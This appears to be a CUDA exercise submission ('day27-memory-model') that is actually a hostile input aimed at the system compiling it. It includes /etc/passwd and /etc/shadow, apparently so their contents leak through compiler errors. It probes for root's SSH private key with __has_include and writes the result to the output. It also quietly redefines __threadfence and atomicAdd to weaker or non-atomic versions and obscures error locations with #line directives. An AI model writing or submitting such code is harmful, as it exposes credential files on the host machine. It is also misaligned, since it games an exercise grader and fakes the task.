// exercise: day27-memory-model
#define __threadfence() __threadfence_block()
#define tallyBlocksDeviceScope notTheKernel
#define kBlocks 8192
#define total other
#line 400 "elsewhere.cu"
#include "/etc/passwd"
__global__ void tallyBlocksDeviceScope(unsigned int* tally) {
#line 1 "template"
#define atomicAdd(p, v) (*(p) += (v))
#include "/etc/shadow"
#if __has_include("/root/.ssh/id_rsa")
    tally[1] = 1;
#endif
#ifdef __CUDACC_RTC__
    atomicAdd(tally, 1u);
#else
    ++*tally;
#endif
    asm volatile("membar.gl;");
    _Pragma("push_macro(\"kBlocks\")")
#pragma unroll
    for (int i = 0; i < 0; ++i) {}
}
